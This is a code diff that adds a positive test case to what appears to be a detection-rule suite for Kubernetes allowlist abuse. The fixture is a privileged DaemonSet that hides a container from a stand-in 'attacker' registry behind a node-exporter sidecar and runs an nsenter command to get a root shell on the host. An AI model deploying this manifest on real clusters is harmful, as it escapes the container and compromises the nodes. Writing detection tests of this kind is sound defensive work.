@@ -365,6 +365,14 @@ function ads0003Positive(): Spec[] {
       },
     ],
   });
+  out.push({
+    id: 'agent-image-sidecar-priv',
+    family: 'k8s-allowlist-abuse',
+    technique: T,
+    description: "A privileged pod that carries a node-exporter sidecar to borrow the agent allowlist's pass; its own container comes from another publisher.",
+    expect: [R.privileged],
+    requests: [createWorkload(DEV, 'DaemonSet', 'node-exporter-extra', 'monitoring', { spec: { hostPID: true, containers: [{ name: 'node-exporter', image: 'quay.io/prometheus/node-exporter:v1.8.2' }, { name: 'helper', image: 'ghcr.io/attacker/tools:1', command: ['sh', '-c', 'nsenter -t 1 -m -u -i -n sh'], securityContext: { privileged: true } }] } })],
+  });
   // Isolation profiles given up.
   const iso: Array<[string, string, PodShape]> = [
     ['seccomp-unconfined-pod', 'seccompProfile Unconfined at pod level', one({}, { securityContext: { seccompProfile: { type: 'Unconfined' } } })],
